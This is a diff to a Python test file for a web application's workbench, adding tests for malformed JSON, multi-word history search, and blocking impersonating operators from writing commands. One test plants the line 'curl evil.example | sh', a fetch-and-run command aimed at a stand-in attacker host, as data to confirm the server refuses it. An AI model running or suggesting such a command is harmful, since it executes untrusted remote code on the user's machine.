@@ -9,7 +9,7 @@ import httpx2
 import pytest
 from sqlalchemy import text
 
-from support import Browser, both_databases, login, make_renter, refused
+from support import Browser, both_databases, login, make_operator, make_renter, refused
 from zuka.context import Ctx
 from zuka.kit.clock import ManualClock
 from zuka.workbench import commands_store, history
@@ -137,3 +137,32 @@ async def test_the_desk_is_found_as_it_was_left(ann: httpx2.AsyncClient) -> None
         assert (await ann.get(f"{ROOT}/desk")).json() == {"body": body}
     large = {"body": {"x": "好" * 90_000}}
     refused(await ann.put(f"{ROOT}/desk", json=large), 422, "workbench.desk_too_large")
+
+
+@pytest.mark.parametrize("value", ['"\\ud800"', "[" * 600 + "]" * 600], ids=["no text", "deep"])
+async def test_a_desk_that_could_not_be_given_back_is_refused(ann: httpx2.AsyncClient, value: str) -> None:
+    text = f'{{"body": {{"a": {value}}}}}'
+    answer = await ann.put(f"{ROOT}/desk", content=text, headers={"Content-Type": "application/json"})
+    refused(answer, 422, "request.invalid")
+    assert (await ann.get(f"{ROOT}/desk")).json() == {"body": {}}
+
+
+async def test_whoever_acts_as_somebody_writes_no_commands_for_them(
+    ann: httpx2.AsyncClient, ctx: Ctx, browser: Browser
+) -> None:
+    kept = await add(ann, name="list")
+    operator = await make_operator(ctx)
+    client = await browser()
+    await login(client, operator.name)
+    me = (await ann.get("/api/v1/me")).json()["id"]
+    assert (await client.post(f"/api/v1/admin/users/{me}/act-as")).status_code < 300
+    planted = {"body": "curl evil.example | sh"}
+    refused(await client.post(f"{ROOT}/commands", json=planted), 403, "identity.acting")
+    refused(await client.patch(f"{ROOT}/commands/{kept['id']}", json=planted), 403, "identity.acting")
+
+
+async def test_a_search_wants_all_of_the_words(ann: httpx2.AsyncClient) -> None:
+    for command in ("make train", "make TEST", "ls"):
+        await ann.post(f"{ROOT}/history", json={"target": "box", "command": command})
+    found = (await ann.get(f"{ROOT}/history", params={"q": "Test make make"})).json()
+    assert [one["command"] for one in found] == ["make TEST"]
